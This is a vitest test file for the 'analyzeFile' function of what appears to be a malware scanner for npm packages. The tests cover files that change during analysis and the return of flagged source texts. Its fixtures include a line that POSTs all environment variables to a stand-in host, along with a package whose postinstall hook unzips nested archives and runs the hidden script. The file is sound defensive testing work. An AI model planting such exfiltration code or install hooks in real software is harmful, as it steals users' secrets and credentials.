import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { tarball, zip } from '@weir/testkit/archive';
import { afterAll, describe, expect, it } from 'vitest';
import { analyzeFile } from './analyze-file.ts';
import type { AnalysisRequest } from './api.ts';
import { SOURCE_TEXT_BYTES_MAX } from './limits.ts';

const folder = mkdtempSync(join(tmpdir(), 'weir-analyze-file-'));
afterAll(() => rmSync(folder, { recursive: true }));

const MANIFEST = JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' });
const THIEF = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;

function request(path: string, part: Partial<AnalysisRequest> = {}): AnalysisRequest {
  return { path, filename: 'x-1.0.0.tgz', ecosystem: 'npm', context: null, ...part };
}

function archive(name: string, files: Readonly<Record<string, string>>): string {
  const built = tarball();
  for (const [path, content] of Object.entries({ 'package.json': MANIFEST, ...files }))
    built.file(`package/${path}`, content);
  const path = join(folder, name);
  writeFileSync(path, built.build());
  return path;
}

function directory(name: string, files: Readonly<Record<string, string>>): string {
  const path = join(folder, name);
  mkdirSync(path);
  for (const [file, content] of Object.entries({ 'package.json': MANIFEST, ...files }))
    writeFileSync(join(path, file), content);
  return path;
}

/** A clock that does `act` on its second look, which is that of the analysis of what was measured and opened. */
function clockThat(act: () => void): Parameters<typeof analyzeFile>[1] {
  let looks = 0;
  return {
    rulesetVersion: 'test',
    spentMs: () => performance.now(),
    now: () => {
      looks += 1;
      if (looks === 2) act();
      return performance.now();
    },
  };
}

describe('what changes while it is read', () => {
  const changed = [{ file: 'x-1.0.0.tgz', reason: expect.stringContaining('changed while it was read') }];

  it('is inconclusive, when it is a file', async () => {
    const path = archive('grows.tgz', { 'index.js': 'module.exports = 1;\n' });

    const result = await analyzeFile(
      request(path),
      clockThat(() => appendFileSync(path, 'more')),
    );

    expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
    expect(result.skipped).toMatchObject(changed);
  });

  it('is inconclusive, when it is a file that vanishes', async () => {
    const path = archive('vanishes.tgz', { 'index.js': 'module.exports = 1;\n' });

    const result = await analyzeFile(
      request(path),
      clockThat(() => rmSync(path)),
    );

    expect(result.judgement.verdict).toBe('inconclusive');
    expect(result.skipped).toMatchObject(changed);
  });

  it('is inconclusive, when it is in a directory', async () => {
    const path = directory('written-to', { 'index.js': 'module.exports = 1;\n' });
    const write = (): void => writeFileSync(join(path, 'index.js'), 'module.exports = 2;\n');

    const result = await analyzeFile(request(path), clockThat(write));

    expect(result.judgement.verdict).toBe('inconclusive');
    expect(result.skipped).toMatchObject(changed);
  });

  it('stays what it was when something was found', async () => {
    const path = archive('thief-grows.tgz', { 'index.js': THIEF });

    const result = await analyzeFile(
      request(path),
      clockThat(() => appendFileSync(path, 'more')),
    );

    expect(result.judgement).toMatchObject({ verdict: 'suspicious', complete: false });
  });

  it('is complete when nobody writes to it', async () => {
    const files = { 'index.js': 'module.exports = 1;\n' };

    for (const path of [archive('quiet.tgz', files), directory('quiet', files)]) {
      const result = await analyzeFile(
        request(path),
        clockThat(() => {}),
      );

      expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
    }
  });
});

describe('the texts of flagged files', () => {
  it('come when asked for, with the names of findings and of the archive', async () => {
    const path = archive('thief.tgz', { 'index.js': THIEF, 'other.js': '1;\n' });
    const options = { now: () => performance.now(), rulesetVersion: 'test' };

    const asked = await analyzeFile(request(path, { withSources: true }), options);
    const unasked = await analyzeFile(request(path), options);

    expect(asked.findings.length).toBeGreaterThan(0);
    expect(asked.sources).toEqual([{ file: 'index.js', path: 'package/index.js', text: THIEF }]);
    expect(unasked).not.toHaveProperty('sources');
  });

  it('are those of members of containers inside the package, too', async () => {
    const inner = zip().file('i.js', THIEF).build();
    const nested = zip().file('b.zip', inner).build();
    const path = join(folder, 'nested.tgz');
    const manifest = JSON.stringify({
      name: 'x',
      version: '1.0.0',
      scripts: { postinstall: 'unzip a.zip && unzip b.zip && node i.js' },
    });
    writeFileSync(
      path,
      tarball().file('package/package.json', manifest).file('package/a.zip', nested).build(),
    );

    const { sources } = await analyzeFile(request(path, { withSources: true }), {
      now: () => performance.now(),
      rulesetVersion: 'test',
    });

    expect(sources).toContainEqual({
      file: 'a.zip!/b.zip!/i.js',
      path: 'package/a.zip!/b.zip!/i.js',
      text: THIEF,
    });
  });

  it('are left out when they are too large', async () => {
    const path = directory('large', { 'index.js': THIEF + ' '.repeat(SOURCE_TEXT_BYTES_MAX) });

    const { findings, sources } = await analyzeFile(request(path, { withSources: true }), {
      now: () => performance.now(),
      rulesetVersion: 'test',
    });

    expect(findings.length).toBeGreaterThan(0);
    expect(sources).toHaveLength(0);
  });
});
